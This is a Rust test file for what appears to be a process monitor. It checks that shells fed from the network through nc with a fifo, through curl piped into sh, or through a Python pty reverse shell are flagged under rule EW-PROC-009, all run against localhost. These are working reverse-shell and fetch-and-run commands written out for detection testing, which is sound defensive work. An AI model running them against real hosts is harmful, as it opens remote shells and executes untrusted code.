//! Shells fed from the network through another process: a fifo plumbed to
//! nc, a download piped into sh, an interpreter keeping the socket and
//! giving the shell a pty. The shell itself holds no socket, so nothing
//! about its own descriptors says "network"; each must still be reported
//! as a `stdio_link` and raise EW-PROC-009. Plain local pipelines raise
//! nothing.

use std::{
    io::{Read as _, Write as _},
    net::TcpListener,
    process::{Command, Stdio},
    time::Duration,
};

use serde_json::Value;
use tests::{is_root, scratch_dir, EventExt as _, Monitor};

const QUIET: &str = "[output]\nseed_events = false\n[network]\nseed_events = false\n";

/// The operator's end: accepts one connection, sends `commands`, reads
/// what comes back until the other side closes (at most 20 s).
fn operator(listener: TcpListener, commands: &'static str) -> std::thread::JoinHandle<String> {
    std::thread::spawn(move || {
        let (mut c, _) = listener.accept().expect("accept");
        c.set_read_timeout(Some(Duration::from_secs(20))).ok();
        c.write_all(commands.as_bytes()).expect("send");
        let mut got = Vec::new();
        let _ = c.read_to_end(&mut got);
        String::from_utf8_lossy(&got).into_owned()
    })
}

fn link_of(v: &Value, marker: &str) -> bool {
    v.kind() == "stdio_link" && v["process"]["argv"].to_string().contains(marker)
}

#[test]
fn a_shell_plumbed_to_nc_through_a_fifo_is_a_reverse_shell() {
    if !is_root("a_shell_plumbed_to_nc_through_a_fifo_is_a_reverse_shell") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    let dir = scratch_dir("fifo-shell");
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let op = operator(listener, "echo ew-fifo-$((6*7))\nexit\n");
    let fifo = dir.join("f");
    // The marker names this test's shell among the machine's.
    let script = format!(
        "mkfifo {f}; /bin/sh -i -c 'read x; eval \"$x\"' ew-fifo-shell <{f} 2>&1 | nc 127.0.0.1 {port} >{f}",
        f = fifo.display()
    );
    let status = Command::new("/bin/sh")
        .args(["-c", &script])
        .stdin(Stdio::null())
        .status()
        .expect("pipeline");
    assert!(status.success() || status.code().is_some());
    assert!(op.join().expect("operator").contains("ew-fifo-42"));
    let link = m.expect_event("stdio_link of the fifo shell", |v| {
        link_of(v, "ew-fifo-shell")
    });
    assert_eq!(link["via"], "pipe");
    assert_eq!(link["fds"], serde_json::json!([0, 1]), "{link}");
    assert_eq!(link["connection"]["remote"]["port"], port);
    assert!(
        link["peer"]["exe"]
            .as_str()
            .is_some_and(|e| e.contains("nc")),
        "{link}"
    );
    let alert = m.expect_event("EW-PROC-009", |v| {
        v.kind() == "alert"
            && v["rule"] == "EW-PROC-009"
            && v["process"]["argv"].to_string().contains("ew-fifo-shell")
    });
    assert_eq!(alert["severity"], "critical");
}

#[test]
fn a_download_piped_into_a_shell_is_seen() {
    if !is_root("a_download_piped_into_a_shell_is_seen") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    // A one-shot web server handing out a script.
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let server = std::thread::spawn(move || {
        let (mut c, _) = listener.accept().expect("accept");
        let mut req = [0u8; 1024];
        let _ = c.read(&mut req);
        let body = "echo ew-piped-$((6*7))\n";
        let _ = write!(
            c,
            "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
    });
    let out = Command::new("/bin/sh")
        .args([
            "-c",
            &format!("curl -fsS http://127.0.0.1:{port}/x | /bin/sh -s ew-piped-shell"),
        ])
        .output()
        .expect("pipeline");
    server.join().expect("server");
    assert!(String::from_utf8_lossy(&out.stdout).contains("ew-piped-42"));
    let link = m.expect_event("stdio_link of the piped shell", |v| {
        link_of(v, "ew-piped-shell")
    });
    assert_eq!(link["fds"], serde_json::json!([0]));
    assert!(
        link["peer"]["exe"]
            .as_str()
            .is_some_and(|e| e.ends_with("/curl")),
        "{link}"
    );
    m.expect_event("EW-PROC-009", |v| {
        v.kind() == "alert"
            && v["rule"] == "EW-PROC-009"
            && v["process"]["argv"].to_string().contains("ew-piped-shell")
    });
}

#[test]
fn an_interpreter_holding_the_socket_and_a_pty_runs_a_reverse_shell() {
    if !is_root("an_interpreter_holding_the_socket_and_a_pty_runs_a_reverse_shell") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let op = operator(listener, "echo ew-pty-$((6*7)); exit\n");
    let code = format!(
        "import os,pty,socket\ns=socket.create_connection(('127.0.0.1',{port}))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn(['/bin/sh','-i','-s','ew-pty-shell'])\n"
    );
    let status = Command::new("/usr/bin/python3")
        .args(["-c", &code])
        .stdin(Stdio::null())
        .status()
        .expect("python");
    assert!(status.code().is_some());
    assert!(op.join().expect("operator").contains("ew-pty-42"));
    let link = m.expect_event("stdio_link of the pty shell", |v| {
        link_of(v, "ew-pty-shell")
    });
    assert_eq!(link["via"], "pty");
    assert!(
        link["peer"]["exe"]
            .as_str()
            .is_some_and(|e| e.contains("python")),
        "{link}"
    );
    m.expect_event("EW-PROC-009", |v| {
        v.kind() == "alert"
            && v["rule"] == "EW-PROC-009"
            && v["process"]["argv"].to_string().contains("ew-pty-shell")
    });
}

/// Pipelines with no network at either end, and a networked process whose
/// shell does not read from it, report nothing.
#[test]
fn local_pipelines_are_not_links() {
    if !is_root("local_pipelines_are_not_links") {
        return;
    }
    let m = Monitor::start_with(QUIET);
    let dir = scratch_dir("local-pipes");
    let log = dir.join("log");
    std::fs::write(&log, "a\nx\n").expect("log");
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let script = format!(
        "printf 'echo hi\\n' | /bin/sh -s ew-local-shell; \
         tail -n 5 {log} | grep x; \
         /usr/bin/python3 -c \"import socket,subprocess; s=socket.create_connection(('127.0.0.1',{port})); subprocess.run(['/bin/sh','-c','true','ew-local-child'])\"",
        log = log.display()
    );
    let accept = std::thread::spawn(move || listener.accept().map(|_| ()));
    let out = Command::new("/bin/sh")
        .args(["-c", &script])
        .stdin(Stdio::null())
        .output()
        .expect("pipelines");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let _ = accept.join();
    std::thread::sleep(Duration::from_secs(2));
    let links = m.events(|v| {
        v.kind() == "stdio_link"
            && (v["process"]["argv"].to_string().contains("ew-local-")
                || v["peer"]["argv"].to_string().contains(&port.to_string()))
    });
    assert!(links.is_empty(), "{links:?}");
}
